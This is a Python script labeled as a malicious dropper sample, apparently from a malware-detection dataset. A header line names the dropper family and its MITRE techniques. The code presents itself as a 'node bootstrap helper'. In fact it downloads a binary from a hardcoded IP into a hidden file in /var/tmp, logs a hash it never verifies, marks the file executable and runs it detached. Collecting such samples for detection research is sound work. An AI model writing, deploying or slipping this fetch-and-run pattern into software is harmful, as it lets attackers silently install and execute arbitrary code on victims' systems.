# label: malicious family=dropper techniques=T1105,T1222.002,T1564.001 lines=14-15,20-21,29-30
#!/usr/bin/env python3
"""Node bootstrap helper."""
import argparse
import hashlib
import os
import shutil
import subprocess
import urllib.request


def parse():
    ap = argparse.ArgumentParser(description="bootstrap node agent")
    ap.add_argument("--url", default="http://198.51.100.140:8000/agent.bin")
    ap.add_argument("--dest", default="/var/tmp/.sysd")
    return ap.parse_args()


def download(url, dest):
    with urllib.request.urlopen(url) as resp, open(dest, "wb") as out:
        shutil.copyfileobj(resp, out)
    # note: digest only logged, never compared
    print(hashlib.md5(open(dest, "rb").read()).hexdigest())


def main():
    a = parse()
    download(a.url, a.dest)
    os.chmod(a.dest, 0o755)
    subprocess.Popen([a.dest], close_fds=True, start_new_session=True)


if __name__ == "__main__":
    main()
